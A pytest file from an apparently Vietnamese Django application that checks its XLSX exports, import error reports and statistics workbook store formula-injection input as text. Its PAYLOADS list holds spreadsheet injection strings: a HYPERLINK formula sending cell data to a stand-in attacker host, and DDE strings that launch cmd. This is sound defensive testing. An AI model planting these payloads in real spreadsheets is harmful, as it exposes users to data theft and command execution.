"""Formula injection: text that a spreadsheet program would run as a formula (starting with
= + - @, a tab or a carriage return) is written as text in every XLSX the system produces: the
exports of every kind, the error report returned after an import, and the statistics workbook.
The files are read back with openpyxl, which tells a stored formula from a string."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from trithuc.imports import writers
from trithuc.imports.kinds import KINDS
from trithuc.imports.tests.helpers import xlsx
from trithuc.orgunits.choices import OrgUnitKind
from trithuc.orgunits.services import orgunit_create
from trithuc.people import services as people_services
from trithuc.people.tests.factories import PersonFactory
from trithuc.reports.statistics import statistics_sheets, write_workbook

PAYLOADS = [
    '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(content), data_only=False)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_cells(content: bytes) -> list[str]:
    """No cell of the workbook is a formula; returns the text of the cells, for further checks."""
    found = cells(content)
    formulas = [f"{c.parent.title}!{c.coordinate}={c.value!r}" for c in found if c.data_type == "f"]
    assert not formulas, f"Ô công thức trong tệp xuất: {formulas}"
    return [c.value for c in found if isinstance(c.value, str)]


def shows_payload(texts: list[str], payload: str) -> bool:
    """The payload is in the file as text (after the neutralising apostrophe, if any)."""
    return any(text.lstrip("'") == payload or payload.strip() in text for text in texts)


@pytest.mark.parametrize("kind", sorted(KINDS))
def test_every_export_kind_writes_hostile_text_as_text(reference, kind):
    found = KINDS[kind]
    rows = [
        [PAYLOADS[(n + c) % len(PAYLOADS)] for c in range(len(found.columns))] for n in range(6)
    ]
    texts = assert_no_formula_cells(writers.export(found, rows))
    for payload in PAYLOADS:
        assert shows_payload(texts, payload)


def test_the_people_export_page_writes_hostile_records_as_text(client, users, units):
    person = PersonFactory(full_name="Nguyễn Văn Xuất", unit=units.new_commune)
    people_services.person_update(
        actor=None,
        person_id=person.pk,
        expected_version=person.version,
        data={"hometown": PAYLOADS[0], "expertise": PAYLOADS[3]},
    )
    job = person.employments.get()
    job.position = PAYLOADS[1]
    job.save(update_fields=["position"])
    client.force_login(users["officer_new_commune"])
    response = client.get(reverse("imports:export", args=["people"]), {"muc_dich": "bao-cao"})
    assert response.status_code == 200
    texts = assert_no_formula_cells(response.content)
    assert shows_payload(texts, PAYLOADS[0])
    assert shows_payload(texts, PAYLOADS[1])


def test_the_error_report_returns_hostile_cells_as_text(client, users, units, reference):
    hostile = [["Họ và tên", "Ngày sinh", "Giới tính", "Quê quán"]]
    hostile += [[f"Người thứ {n}", "31/02/1985", p, p] for n, p in enumerate(PAYLOADS, 1)]
    client.force_login(users["officer_new_commune"])
    upload = SimpleUploadedFile("ds.xlsx", xlsx(hostile, text_columns=(1, 2, 3)))
    response = client.post(
        reverse("imports:batch_list"),
        {"kind": "people", "unit": units.new_commune.pk, "file": upload},
    )
    assert response.status_code == 302
    report = client.get(response["Location"] + "bao-loi/")
    assert report.status_code == 200
    texts = assert_no_formula_cells(report.content)
    for payload in PAYLOADS:
        assert shows_payload(texts, payload)


def test_the_statistics_workbook_writes_hostile_names_as_text(units, program):
    hostile_unit = orgunit_create(
        code="TM.X9",
        name=PAYLOADS[0],
        kind=OrgUnitKind.COMMUNE,
        parent=units.new_province,
        valid_from=dt.date(2025, 7, 1),
    )
    PersonFactory(full_name="Trần Văn Số", unit=hostile_unit)
    out = io.BytesIO()
    sheets = statistics_sheets(
        program=program, unit=units.new_province, year=2025, day=dt.date(2025, 12, 31)
    )
    write_workbook(sheets, out, heading=PAYLOADS[2])
    texts = assert_no_formula_cells(out.getvalue())
    assert shows_payload(texts, PAYLOADS[0])
    assert shows_payload(texts, PAYLOADS[2])
